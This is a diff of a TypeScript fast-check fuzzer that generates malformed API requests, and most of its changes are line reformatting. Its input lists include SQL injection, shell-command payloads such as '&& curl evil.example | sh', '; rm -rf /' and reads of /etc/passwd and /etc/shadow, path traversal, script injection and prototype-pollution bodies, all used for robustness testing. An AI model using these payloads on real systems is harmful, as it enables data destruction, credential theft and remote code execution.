@@ -18,10 +18,28 @@ export interface FuzzRequest {
   mutations: string[];
 }
 
-const SQL = ["' OR '1'='1", "1; DROP TABLE accounts;--", "\" OR \"\"=\"", "1' UNION SELECT password_hash FROM accounts--", "'); DELETE FROM api_keys; --"];
+const SQL = ["' OR '1'='1", '1; DROP TABLE accounts;--', '" OR ""="', "1' UNION SELECT password_hash FROM accounts--", "'); DELETE FROM api_keys; --"];
 const SHELL = ['$(reboot)', '`id`', '; rm -rf / ;', '| cat /etc/passwd', '&& curl evil.example | sh', '${IFS}cat${IFS}/etc/shadow'];
 const TRAVERSAL = ['../../../../etc/passwd', '..', '.', '/proc/1/root', '....//....//etc'];
-const ODD_SCALARS = ['null', 'undefined', 'true', '-1', '0', '1.5', '1e309', '99999999999999999999999', 'NaN', 'Infinity', '[]', '{}', '__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty'];
+const ODD_SCALARS = [
+  'null',
+  'undefined',
+  'true',
+  '-1',
+  '0',
+  '1.5',
+  '1e309',
+  '99999999999999999999999',
+  'NaN',
+  'Infinity',
+  '[]',
+  '{}',
+  '__proto__',
+  'constructor',
+  'prototype',
+  'toString',
+  'hasOwnProperty',
+];
 const HOSTILE_STRINGS = [...SQL, ...SHELL, ...TRAVERSAL, ...ODD_SCALARS, '', ' ', '\u0000', '\u202e', '💥', '\ud800', 'a\r\nx-injected: 1', '<script>alert(1)</script>', '%s%s%s%n', '{{7*7}}'];
 
 /** A path segment or query value as it goes on the wire: percent-encoded, broken encodings, or raw latin-1 bytes. */
@@ -44,7 +62,9 @@ const wireValue = fc.oneof(
   { weight: 2, arbitrary: fc.double().map(String) },
 );
 /** An id of a plausible shape that no resource has. */
-const missingId = fc.tuple(fc.constantFrom('sbx', 'snp', 'pip', 'run', 'evs', 'evt', 'alr', 'ntf', 'key', 'ses', 'dlv'), fc.stringMatching(/^[0-9a-hjkmnp-tv-z]{26}$/)).map(([prefix, rest]) => `${prefix}_${rest}`);
+const missingId = fc
+  .tuple(fc.constantFrom('sbx', 'snp', 'pip', 'run', 'evs', 'evt', 'alr', 'ntf', 'key', 'ses', 'dlv'), fc.stringMatching(/^[0-9a-hjkmnp-tv-z]{26}$/))
+  .map(([prefix, rest]) => `${prefix}_${rest}`);
 const pathValue = fc.oneof({ weight: 6, arbitrary: wireValue }, { weight: 2, arbitrary: missingId });
 
 /** A JSON value of a type `schema` does not allow is likely among these; the oracle has the last word. */
@@ -118,14 +138,29 @@ function describe(value: unknown): string {
 
 /** Raw bytes that are not a JSON document, or not one in UTF-8. */
 const rawBody = fc.oneof(
-  fc.constantFrom('{', '{"a":', "{'a':1}", '{"a":1,}', 'nul', 'NaN', '[1,2', '{"__proto__":{"admin":true}}', '{"constructor":{"prototype":{"x":1}}}', '\u0000', '"\\ud800"', '{"a":1}{"b":2}').map((text) => Buffer.from(text)),
+  fc
+    .constantFrom('{', '{"a":', "{'a':1}", '{"a":1,}', 'nul', 'NaN', '[1,2', '{"__proto__":{"admin":true}}', '{"constructor":{"prototype":{"x":1}}}', '\u0000', '"\\ud800"', '{"a":1}{"b":2}')
+    .map((text) => Buffer.from(text)),
   fc.uint8Array({ minLength: 1, maxLength: 200 }).map((bytes) => Buffer.from(bytes)),
   fc.constantFrom(0xff, 0xc0, 0xed, 0xf8).map((byte) => Buffer.concat([Buffer.from('{"name":"'), Buffer.from([byte, 0x80, 0xbf]), Buffer.from('"}')])),
   fc.constantFrom(1024 * 1024 + 10, 2 * 1024 * 1024).map((size) => Buffer.alloc(size, 0x7b)),
   fc.integer({ min: 1000, max: 200_000 }).map((depth) => Buffer.from('['.repeat(depth) + ']'.repeat(depth))),
 );
 
-const CONTENT_TYPES = ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x', 'application/octet-stream', 'application/xml', ';;;', 'application/json; charset=utf-16', 'APPLICATION/JSON', 'application/json;;', 'application/vnd.api+json', 'application/json, text/plain', '*/*'];
+const CONTENT_TYPES = [
+  'text/plain',
+  'application/x-www-form-urlencoded',
+  'multipart/form-data; boundary=x',
+  'application/octet-stream',
+  'application/xml',
+  ';;;',
+  'application/json; charset=utf-16',
+  'APPLICATION/JSON',
+  'application/json;;',
+  'application/vnd.api+json',
+  'application/json, text/plain',
+  '*/*',
+];
 
 export interface RequestContext {
   apiKey: string;
@@ -164,11 +199,29 @@ function headersPart(apiKey: string) {
     { weight: 16, arbitrary: fc.constant<string | undefined>(`Bearer ${apiKey}`) },
     { weight: 1, arbitrary: fc.constant<string | undefined>(`bearer   ${apiKey}  `) },
     { weight: 1, arbitrary: fc.constant<string | undefined>(undefined) },
-    { weight: 2, arbitrary: fc.constantFrom<string | undefined>('Bearer', 'Bearer ', 'Basic dXNlcjpwYXNz', `Bearer ${apiKey}x`, `Bearer ${apiKey} ${apiKey}`, 'Bearer svc_sk_\' OR 1=1--', `Bearer svc_sk_${'A'.repeat(43)}`, 'Bearer svc_ds_x') },
+    {
+      weight: 2,
+      arbitrary: fc.constantFrom<string | undefined>(
+        'Bearer',
+        'Bearer ',
+        'Basic dXNlcjpwYXNz',
+        `Bearer ${apiKey}x`,
+        `Bearer ${apiKey} ${apiKey}`,
+        "Bearer svc_sk_' OR 1=1--",
+        `Bearer svc_sk_${'A'.repeat(43)}`,
+        'Bearer svc_ds_x',
+      ),
+    },
     { weight: 1, arbitrary: fc.integer({ min: 1000, max: 8000 }).map<string | undefined>((n) => `Bearer svc_sk_${'a'.repeat(n)}`) },
   );
   const extra = fc.array(
-    fc.tuple(fc.constantFrom('x-forwarded-for', 'x-request-id', 'accept', 'accept-encoding', 'origin', 'cookie', 'x-ratelimit-remaining', 'x-paddock-account', 'if-none-match', 'range', 'x-custom'), fc.oneof(fc.constantFrom('127.0.0.1, 10.0.0.1', '*/*', 'gzip, br', '../../', "' OR 1=1", 'bytes=0-999999999999', 'null'), fc.integer({ min: 100, max: 6000 }).map((n) => 'v'.repeat(n)))),
+    fc.tuple(
+      fc.constantFrom('x-forwarded-for', 'x-request-id', 'accept', 'accept-encoding', 'origin', 'cookie', 'x-ratelimit-remaining', 'x-paddock-account', 'if-none-match', 'range', 'x-custom'),
+      fc.oneof(
+        fc.constantFrom('127.0.0.1, 10.0.0.1', '*/*', 'gzip, br', '../../', "' OR 1=1", 'bytes=0-999999999999', 'null'),
+        fc.integer({ min: 100, max: 6000 }).map((n) => 'v'.repeat(n)),
+      ),
+    ),
     { maxLength: 2 },
   );
   return fc.tuple(authorization, extra).map(([auth, extras]) => {
@@ -223,10 +276,19 @@ export function malformedRequest(operation: Operation, context: RequestContext):
   const pathValues = fc.tuple(
     ...operation.pathParams.map((parameter) => {
       const id = existingFor(operation, parameter.name, context.existing ?? {});
-      return id === undefined ? pathValue.map((value) => ({ value, existing: null as string | null })) : fc.oneof(pathValue.map((value) => ({ value, existing: null as string | null })), pathValue.map((value) => ({ value, existing: id as string | null })));
+      return id === undefined
+        ? pathValue.map((value) => ({ value, existing: null as string | null }))
+        : fc.oneof(
+            pathValue.map((value) => ({ value, existing: null as string | null })),
+            pathValue.map((value) => ({ value, existing: id as string | null })),
+          );
     }),
   );
-  const contentType = fc.oneof({ weight: 8, arbitrary: fc.constant<string | undefined>('application/json') }, { weight: 1, arbitrary: fc.constant<string | undefined>(undefined) }, { weight: 3, arbitrary: fc.constantFrom<string | undefined>(...CONTENT_TYPES) });
+  const contentType = fc.oneof(
+    { weight: 8, arbitrary: fc.constant<string | undefined>('application/json') },
+    { weight: 1, arbitrary: fc.constant<string | undefined>(undefined) },
+    { weight: 3, arbitrary: fc.constantFrom<string | undefined>(...CONTENT_TYPES) },
+  );
   const bodyless = operation.method === 'GET' || operation.method === 'DELETE';
   const body = bodyless ? fc.oneof({ weight: 4, arbitrary: fc.constant({ body: null as Buffer | null, labels: [] as string[] }) }, { weight: 1, arbitrary: bodyPart(operation) }) : bodyPart(operation);
   return fc
@@ -236,7 +298,9 @@ export function malformedRequest(operation: Operation, context: RequestContext):
       if (bytes !== null && type !== undefined) allHeaders['content-type'] = type;
       // An existing resource only where nothing can change: a GET, or a JSON body (refused by the filter below).
       const harmless = operation.method === 'GET' || (operation.bodySchema !== null && bytes !== null && type?.split(';')[0].trim().toLowerCase() === 'application/json');
-      const named = Object.fromEntries(operation.pathParams.map((parameter, index) => [parameter.name, values[index].existing !== null && harmless ? encodeURIComponent(values[index].existing!) : values[index].value]));
+      const named = Object.fromEntries(
+        operation.pathParams.map((parameter, index) => [parameter.name, values[index].existing !== null && harmless ? encodeURIComponent(values[index].existing!) : values[index].value]),
+      );
       const usedExisting = operation.pathParams.some((_parameter, index) => values[index].existing !== null && harmless);
       return {
         operation: `${operation.method} ${operation.path}`,
